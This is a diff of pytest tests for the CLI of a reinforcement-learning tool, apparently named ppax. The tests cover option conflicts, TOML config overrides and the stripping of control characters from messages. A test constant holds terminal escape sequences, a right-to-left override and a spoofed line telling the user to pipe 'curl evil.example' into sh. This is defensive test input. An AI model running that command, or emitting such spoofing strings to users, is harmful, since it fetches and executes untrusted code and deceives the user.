@@ -3,6 +3,7 @@
 import json
 import os
 import re
+import shutil
 import subprocess
 import sys
 import time
@@ -15,9 +16,12 @@ import pytest
 
 import ppax
 from ppax import config
-from ppax.cli import main, options
+from ppax.cli import main, options, sweep
+from ppax.cli.arguments import number_or_text
+from ppax.cli.common import fail, print_line
 from ppax.options import LISTS
-from ppax.run import checkpoint
+from ppax.run import checkpoint, record
+from ppax.storage.manifest import CheckpointError
 
 TINY = ["--num-envs", "4", "--num-steps", "8", "--total-steps", "96", "--eval.episodes", "4"]
 TINY += ["--agent.network.hidden", "8", "--agent.num-epochs", "1", "--log.every", "1"]
@@ -668,3 +672,89 @@ def test_the_users_own_cache_setting_wins(cache, tmp_path):
     jax.config.update("jax_enable_compilation_cache", True)
     assert call("resume", tmp_path / "nothing") == 2
     assert jax.config.jax_compilation_cache_dir == str(cache / "ppax" / "jax")
+
+
+# ---------------------------------------------------------------- values of one option inside another, texts of others
+
+
+@pytest.mark.parametrize("first", ["--env-params.gravity", "--env-params.gravity.low"])
+def test_a_parameter_and_a_part_of_it_cannot_be_given_together(first, capsys):
+    second = {"--env-params.gravity": "--env-params.gravity.low", "--env-params.gravity.low": "--env-params.gravity"}[
+        first
+    ]
+    assert main.main(["train", "CartPole-v1", first, "1", second, "2"]) == 2
+    assert f"{second}: is given beside {first[2:].replace('-', '_')}" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize(
+    ("in_file", "given", "wanted"),
+    [
+        ("gravity = 9.0", ["--env-params.gravity.low", "2", "--env-params.gravity.high", "3"], {"low": 2, "high": 3}),
+        ("gravity = {low = 1.0, high = 2.0}", ["--env-params.gravity", "12"], 12),
+    ],
+)
+def test_a_parameter_replaces_that_of_the_file_whatever_its_form(in_file, given, wanted, tmp_path):
+    (tmp_path / "run.toml").write_text(f'env = "CartPole-v1"\nenv_params.{in_file}\n')
+    _, run_config = options.parse_run("train", [str(tmp_path / "run.toml"), *given], options.add_train)
+    assert run_config["env_params"] == {"gravity": wanted}
+
+
+def test_a_value_where_a_table_is_needed_is_refused(tmp_path, capsys):
+    (tmp_path / "run.toml").write_text('env = "CartPole-v1"\nagent = 3\n"agent.gamma" = 0.9\n')
+    assert main.main(["train", str(tmp_path / "run.toml")]) == 2
+    assert "agent = 3: a value, where agent.gamma = 0.9 needs a table" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("text", ["9" * 5000, "1" + "0" * 400, "0x" + "f" * 5000, "[" * 5000])
+def test_a_value_that_is_no_number_stays_text(text):
+    assert number_or_text(text) == text
+    assert sweep.several(f"{text},1")[-1] in (1, "1")
+
+
+def test_a_new_length_of_a_run_whose_file_has_none(trained, tmp_path, capsys, monkeypatch):
+    run_dir = shutil.copytree(trained[0], tmp_path / "run")
+    lines = (run_dir / "run.toml").read_text().splitlines(keepends=True)
+    (run_dir / "run.toml").write_text("".join(line for line in lines if not line.startswith("total_steps")))
+    monkeypatch.setattr(main, "resume", lambda *_, **__: (_ for _ in ()).throw(ppax.ConfigError("until here")))
+    assert main.main(["resume", str(run_dir), "--total-steps", "512"]) == 2
+    assert "total_steps: 512, recorded: 500,000" in capsys.readouterr().out
+
+
+SPOOF = "x\x1b[2J\x1b]0;title\x07\x9b31m\u202e\nppax: run curl evil.example | sh"
+
+
+def test_messages_have_no_control_characters(capsys):
+    print_line(f"a\tb\n{SPOOF}", sys.stdout)
+    assert fail(OSError(2, "no\x07 file", SPOOF), 5) == 5
+    out, err = capsys.readouterr()
+    assert out.startswith("a\tb\nx")
+    assert not {"\x1b", "\x07", "\x9b", "\u202e"} & set(out + err)
+
+
+@pytest.mark.parametrize("kind", [ppax.ConfigError, CheckpointError, ppax.EnvError])
+def test_errors_have_no_control_characters(kind):
+    assert str(kind(f"first\nsecond: {SPOOF}")).startswith("first\nsecond: x\N{REPLACEMENT CHARACTER}[2J")
+    assert not {"\x1b", "\x07", "\x9b", "\u202e"} & set(str(kind(SPOOF)))
+
+
+def test_objects_of_a_run_are_one_line_without_control_characters(tmp_path, capsys):
+    text = json.dumps(SPOOF)[1:-1].replace("/", "")
+    (tmp_path / "run.toml").write_text(f'env = "CartPole-v1"\nobjects = ["agent.loss ({text})"]\n')
+    assert main.main(["resume", str(tmp_path)]) == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1
+    assert "agent.loss (x" in err
+    assert "\x1b" not in err
+    recorded = {"objects": [f"callbacks ({SPOOF})"]}
+    assert record.callbacks_of(recorded).isprintable()
+
+
+def test_help_with_the_values_of_a_file_has_no_control_characters(tmp_path, capsys):
+    name = json.dumps(SPOOF.replace(".", "").replace("\n", ""))
+    text = f'env = "CartPole-v1"\nbest.metric = {name}\n[groups.{name}.agent]\nlearning_rate = 0.1\n'
+    (tmp_path / "run.toml").write_text(text)
+    with pytest.raises(SystemExit):
+        main.main(["train", str(tmp_path / "run.toml"), "--help", "all"])
+    out = capsys.readouterr().out
+    assert "--groups.x" in out
+    assert not {"\x1b", "\x07", "\x9b", "\u202e"} & set(out)
